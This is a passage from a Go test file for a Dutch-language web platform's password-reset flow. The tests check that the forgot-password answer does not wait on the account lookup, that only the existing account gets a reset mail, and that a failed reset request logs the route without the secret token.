	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv)
	t.Cleanup(ts.Close)
	p := &platform{Server: ts, db: db, srv: srv}
	for _, email := range []string{"niemand@arnhem.example", "partner@arnhem.demo.example"} {
		r := p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {email}})
		if r.status != 200 || !strings.Contains(r.body, "Als er een account bij dit e-mailadres hoort") {
			t.Errorf("%s: %d while the lookup is held", email, r.status)
		}
	}
	if held.waited.Load() {
		t.Error("the answer waited for the account lookup")
	}
	close(held.release)
	p.waitForBackground(t)
	if n := held.lookups.Load(); n != 2 {
		t.Errorf("%d lookups afterwards, want one per request", n)
	}
	var resets int
	mails, _ := db.ListMail(ctx, 100)
	for _, m := range mails {
		if strings.Contains(m.Body, "/wachtwoord-herstellen/") {
			resets++
			if m.Recipient != "partner@arnhem.demo.example" {
				t.Errorf("reset mail to %s", m.Recipient)
			}
		}
	}
	if resets != 1 {
		t.Errorf("%d reset mails to the busy partner, want 1", resets)
	}
}

// A failure on a page opened by a secret link logs the route, never the
// token in the path (the request log is redacted in package server).
func TestFailureOnASecretLinkLogsNoToken(t *testing.T) {
	db := storetest.OpenWithDemo(t)
	var log strings.Builder
	var mu sync.Mutex
	srv, err := server.New(db.Services(), slog.New(slog.NewTextHandler(&lockedWriter{w: &log, mu: &mu}, nil)), server.Options{HashConcurrency: 1})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv)
	t.Cleanup(ts.Close)
	p := &platform{Server: ts, db: db, srv: srv}
	token, _ := auth.NewToken()
	db.Close() // every store call now fails: an internal error
	const pw = "nieuwe-lente-nieuw-geluid"
	if r := p.do(t, "POST", "/wachtwoord-herstellen/"+token, "", url.Values{"nieuw": {pw}, "herhaling": {pw}}); r.status != http.StatusInternalServerError {
		t.Fatalf("status %d, want 500", r.status)
	}
	mu.Lock()
	defer mu.Unlock()
	var failure string
	for _, line := range strings.Split(log.String(), "\n") {
		if strings.Contains(line, "web request failed") {
			failure = line
		}
	}
	if failure == "" || strings.Contains(failure, token) || !strings.Contains(failure, "/wachtwoord-herstellen/{token}") {
		t.Errorf("the failure is not logged, or with the token: %q", failure)
	}
}

type lockedWriter struct {
	w  *strings.Builder
	mu *sync.Mutex
}

func (l *lockedWriter) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(b)
}
